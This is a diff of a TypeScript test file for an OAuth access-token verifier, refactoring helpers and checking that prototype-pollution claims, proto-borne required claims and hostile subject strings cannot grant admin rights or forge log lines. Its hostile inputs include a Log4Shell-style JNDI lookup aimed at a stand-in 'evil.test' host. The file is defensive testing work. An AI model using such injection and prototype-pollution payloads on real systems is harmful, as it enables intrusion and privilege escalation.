@@ -1,12 +1,13 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { type AgentContext, type Party, partyKey, sentence } from '../../../src/index.ts'
-import { type Members, spliceMember } from '../../support/raw-jws.ts'
-import { contextIn, createScene, type Scene } from '../../support/scene.ts'
+import { createForge, type Forge } from '../../support/forge.ts'
+import { type Members, spliceMember } from '../../support/jws.ts'
+import { resource } from '../../support/kit.ts'
 
-const scene: Scene = await createScene()
-const verifier = scene.verifier()
-const home = scene.issuer.issuer
+const forge: Forge = await createForge()
+const { verifier } = forge
+const home = forge.trust.issuer
 const agent = (sub: string, act?: Members): Members => ({
   sub,
   iss: home,
@@ -15,7 +16,7 @@ const agent = (sub: string, act?: Members): Members => ({
 })
 
 async function contextFor(claims: Members): Promise<AgentContext> {
-  return contextIn(await scene.send(verifier, scene.token(claims)))
+  return forge.context({ verifier, token: forge.token(claims) })
 }
 
 /** Every object reachable from `value`, with the way to it. */
@@ -52,8 +53,8 @@ test('AT-22: the context is frozen to the last member and inherits nothing', asy
 })
 
 test('AT-22: writing to it fails, and the next request of the token sees the same object, unchanged', async () => {
-  const token = scene.token(everything)
-  const first = contextIn(await scene.send(verifier, token))
+  const token = forge.token(everything)
+  const first = await forge.context({ verifier, token })
   const before = JSON.stringify(first)
   const writes: readonly (() => unknown)[] = [
     () => Reflect.set(first, 'authority', 'independent'),
@@ -66,7 +67,7 @@ test('AT-22: writing to it fails, and the next request of the token sees the sam
   ]
   for (const write of writes) expect(write()).toBe(false)
   expect(() => (first.scopes as string[]).push('admin')).toThrow(TypeError)
-  const second = contextIn(await scene.send(verifier, token))
+  const second = await forge.context({ verifier, token })
   expect(second).toBe(first)
   expect(JSON.stringify(second)).toBe(before)
 })
@@ -75,10 +76,10 @@ test('AT-22: claims called like members of Object.prototype stay claims and reac
   const names = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then']
   for (const name of names) {
     const text = `${JSON.stringify(name)}:{"scope":"admin","roles":["admin"],"isAdmin":true}`
-    const claims = scene.claims()
+    const claims = forge.claims()
     const act = spliceMember(agent('a'), text)
     const payload = spliceMember({ ...claims, cnf: claims['cnf'] }, `${text},"act":${act}`)
-    const context = contextIn(await scene.send(verifier, scene.raw(scene.header(), payload)))
+    const context = await forge.context({ verifier, token: forge.raw(forge.header(), payload) })
     expect(context, name).toMatchObject({ scopes: [], roles: [], authority: 'delegated', actor: { subject: 'a' } })
     expect(Reflect.get(context, 'isAdmin')).toBeUndefined()
     expect(Object.hasOwn(context.token.claims, name), name).toBe(true)
@@ -90,16 +91,16 @@ test('AT-22: claims called like members of Object.prototype stay claims and reac
 
 test('AT-22: required claims are own claims: none can be had from __proto__', async () => {
   for (const name of ['sub', 'client_id', 'jti', 'iat', 'exp']) {
-    const { [name]: value, ...others } = scene.claims()
+    const { [name]: value, ...others } = forge.claims()
     const payload = spliceMember(others, `"__proto__":{${JSON.stringify(name)}:${JSON.stringify(value)}}`)
-    const verdict = await scene.send(verifier, scene.raw(scene.header(), payload))
+    const verdict = await forge.call({ verifier, token: forge.raw(forge.header(), payload) })
     expect(verdict, name).toMatchObject({ ok: false, refusal: { code: 'token_claim', facts: { claim: name } } })
   }
 })
 
 test('RFC 9068 §2.2: the context says what the token says, and nothing else', async () => {
   const context = await contextFor(everything)
-  const now = scene.clock.now() / 1_000
+  const now = forge.clock.now() / 1_000
   const { claims, id, ...token } = context.token
   expect(JSON.parse(JSON.stringify({ ...context, token }))).toEqual({
     principal: {
@@ -142,9 +143,9 @@ test('RFC 9068 §2.2: the context says what the token says, and nothing else', a
     authorizationDetails: [{ type: 't', actions: ['x'], nested: { list: [{}] } }],
     roles: ['r'],
     permissions: ['p'],
-    sender: { method: 'dpop', jkt: scene.agent.jkt },
+    sender: { method: 'dpop', jkt: forge.agent.jkt },
     authentication: { acr: 'gold', amr: ['pwd', 'otp'], time: 1 },
-    token: { issuer: home, audience: [scene.resource], issuedAt: now, expiresAt: now + 300 },
+    token: { issuer: home, audience: [resource], issuedAt: now, expiresAt: now + 300 },
     warnings: ['client_id_azp_differ'],
   })
   expect(id).toBe(claims.jti)
@@ -152,7 +153,7 @@ test('RFC 9068 §2.2: the context says what the token says, and nothing else', a
 })
 
 test("RFC 9068 §2.2: the audience in the context is all of the token's", async () => {
-  const aud = ['https://other.example.test', scene.resource]
+  const aud = ['https://other.example.test', resource]
   expect((await contextFor({ aud })).token.audience).toEqual(aud)
 })
 
@@ -165,7 +166,7 @@ const party = (assertedBy: string, issuer: string | null, subject: string): Part
   profiles: [],
 })
 
-test('RFC 8693 §4.1: partyKey tells parties apart by all three parts, whatever characters they hold', () => {
+test('Context: partyKey tells parties apart by all three parts, whatever characters they hold', () => {
   const parties = [
     party('a', 'b', 'c'),
     party('a', null, 'c'),
@@ -185,7 +186,7 @@ test('RFC 8693 §4.1: partyKey tells parties apart by all three parts, whatever 
   expect(new Set(parties.map(partyKey)).size).toBe(parties.length)
 })
 
-test('RFC 8693 §4.1: partyKey can be read back, is printable ASCII, and does not depend on what a party is', () => {
+test('Context: partyKey can be read back, is printable ASCII, and does not depend on what a party is', () => {
   const text = fc.string({ unit: 'binary', minLength: 1 })
   fc.assert(
     fc.property(text, fc.option(text), text, (assertedBy, issuer, subject) => {
@@ -208,7 +209,7 @@ test.each([
   ],
   [{ sub: 'alice@example.com', act: { sub: 'spiffe://x/y' } }, 'party spiffe://x/y for human alice@example.com'],
   [{ act: { sub: 'alice' } }, 'human alice'],
-])('RFC 8693 §4.1: the sentence of %j', async (claims, line) => {
+])('Context: the sentence of %j', async (claims, line) => {
   expect(sentence(await contextFor(claims))).toBe(line)
 })
 
@@ -231,7 +232,7 @@ const hostile = [
   '$\u007bjndi:ldap://evil.test/a}',
 ]
 
-test('RFC 8693 §4.1: no subject can forge a line or a second clause of the sentence', async () => {
+test('Context: no subject can forge a line or a second clause of the sentence', async () => {
   const lines = new Set<string>()
   for (const subject of hostile) {
     for (const claims of [{ sub: subject }, { act: agent(subject) }, { act: agent('x', agent(subject)) }]) {
